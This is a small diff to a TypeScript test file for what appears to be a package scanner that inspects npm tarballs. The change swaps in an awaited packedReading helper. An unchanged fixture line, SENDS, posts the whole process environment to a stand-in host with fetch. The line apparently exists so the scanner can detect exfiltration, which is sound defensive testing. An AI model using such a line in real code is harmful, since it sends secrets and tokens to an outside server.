@@ -4,7 +4,7 @@ import { inspect } from '../../src/inspection/inspect.ts'
 import { sha256 } from '../../src/model/digest.ts'
 import type { CatalogueManifest } from '../../src/model/artifact.ts'
 import type { JudgedFacts } from '../../src/model/fact.ts'
-import { readingOf } from './python-reading.ts'
+import { packedReading } from './python-reading.ts'
 import { sampleArtifact } from './sample-artifact.ts'
 
 const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
@@ -13,7 +13,7 @@ type Files = Readonly<Record<string, string>>
 
 async function judged(manifest: object, files: Files, shown: CatalogueManifest = {}): Promise<JudgedFacts> {
   const all = { 'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }), ...files }
-  const facts = await inspect(readingOf('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
+  const facts = await inspect(await packedReading('npm-tarball', all), { digest: sha256('x'), readAs: 'npm-tarball' })
   return judgedFacts(facts, sampleArtifact('npm-tarball', { manifest: shown }), 'verified')
 }
 
